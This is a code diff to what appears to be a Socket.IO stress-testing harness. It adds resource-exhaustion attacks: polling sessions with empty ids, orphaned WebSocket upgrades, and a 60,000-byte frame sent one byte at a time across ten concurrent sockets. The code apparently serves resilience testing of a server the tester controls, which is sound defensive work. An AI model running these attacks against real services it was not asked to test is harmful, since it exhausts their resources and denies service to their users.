@@ -144,9 +144,41 @@ def half_handshakes(attack: Attacker) -> None:
 
 
 def polling_sessions(attack: Attacker) -> None:
-    """Each takes memory until it times out."""
-    hello = request("GET", POLLING)
-    attack.crowd(20, lambda me: attack.ask_again_and_again(lambda _: hello, me))
+    """Each takes memory until it times out; half of them have no id, and say so."""
+    hellos = request("GET", POLLING), request("GET", f"{POLLING}&sid=")
+    attack.crowd(20, lambda me: attack.ask_again_and_again(lambda number: hellos[number % 2], me))
+
+
+def sockets_that_sessions_never_move_to(attack: Attacker) -> None:
+    """A WebSocket for each of many polling sessions, which is opened and then left alone."""
+
+    def open_some(me: int) -> None:
+        while attack.goes_on():
+            client = attack.keep(me)
+            with attack.attempt(), attack.connect(me) as other:
+                session = json.loads(ask(other, request("GET", POLLING)).body[1:])["sid"]
+                if client:
+                    ask(client, handshake(f"/socket.io/?EIO=4&transport=websocket&sid={session}"))
+                    attack.tally["sockets"] += 1
+
+    attack.crowd(20, open_some)
+
+
+def frames_that_dribble(attack: Attacker) -> None:
+    """A long message byte by byte, on ten sockets."""
+    message = frame(b'42["x","' + b"a" * 60_000 + b'"]')
+
+    def dribble(me: int) -> None:
+        while attack.goes_on():
+            with attack.attempt(), attack.connect(me) as client:
+                web_socket = WebSocket(client).sign_in(attack.target.token)
+                for at in range(len(message)):
+                    if not attack.goes_on():
+                        return
+                    web_socket.client.send(message[at : at + 1])
+                    attack.tally["bytes"] += 1
+
+    attack.crowd(10, dribble)
 
 
 def polling_payloads(attack: Attacker) -> None:
@@ -239,5 +271,7 @@ ATTACKS = (
     sockets_of_one_account,
     half_handshakes,
     polling_sessions,
+    sockets_that_sessions_never_move_to,
+    frames_that_dribble,
     polling_payloads,
 )
